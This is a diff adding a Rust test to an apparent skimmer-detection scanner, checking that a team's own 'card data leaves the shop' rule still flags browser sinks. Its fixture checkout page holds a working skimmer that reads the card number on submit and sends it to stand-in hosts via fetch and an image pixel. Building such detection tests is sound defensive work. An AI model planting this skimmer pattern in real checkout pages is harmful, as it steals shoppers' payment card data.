@@ -193,3 +193,56 @@ fn rules_list_shows_the_pipeline_rules_that_stay() {
         .stdout(predicate::str::contains("baseline-new-script"))
         .stdout(predicate::str::contains("payment-data-exfiltration").not());
 }
+
+/// The Web-API catalogue (which calls send, which argument is the URL) describes the browser,
+/// not a policy: a team's own flow rule under `--no-default-rules` must still see `fetch` and
+/// `new Image().src` as sinks, or every skimmer would pass their gate as clean.
+#[test]
+fn a_teams_own_flow_rule_still_knows_the_browsers_sinks() {
+    let dir = tempfile::tempdir().unwrap();
+    let rules = dir.path().join("our-rules");
+    write_file(
+        &rules,
+        "code/card-leaves.toml",
+        r#"id = "team-card-leaves"
+title = "Card data leaves the shop"
+severity = "critical"
+kind = "code"
+[doc]
+what = "Card data reaching a sink whose destination is outside."
+why = "Our checkout only talks to our API and our processor."
+example = "fetch('https://x.example', {body: cc.value})"
+[match]
+fact = "flow"
+sources = ["payment"]
+destinations = ["outside"]
+"#,
+    );
+    let page = r#"<!doctype html><html><head><meta charset="utf-8"><title>Checkout</title></head><body>
+<form action="/pay" method="post"><input id="cc_number" name="cc_number" autocomplete="cc-number"><button>Pay</button></form>
+<script>
+document.querySelector('form').addEventListener('submit', function () {
+  var n = document.getElementById('cc_number').value;
+  fetch('https://cdn-metrics.example/c', {method: 'POST', body: btoa(n)});
+  new Image().src = 'https://pixel-stats.example/p?d=' + encodeURIComponent(n);
+});
+</script></body></html>"#;
+    let (code, report, stderr) = scan_with_own_rules(dir.path(), &rules, page);
+    assert_eq!(code, 1, "{stderr}\n{report:#}");
+    let hosts: Vec<String> = report["findings"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .filter(|f| f["rule"] == "team-card-leaves")
+        .flat_map(|f| f["hosts"].as_array().cloned().unwrap_or_default())
+        .filter_map(|h| h.as_str().map(str::to_string))
+        .collect();
+    assert!(
+        hosts.iter().any(|h| h == "cdn-metrics.example"),
+        "{report:#}"
+    );
+    assert!(
+        hosts.iter().any(|h| h == "pixel-stats.example"),
+        "{report:#}"
+    );
+}
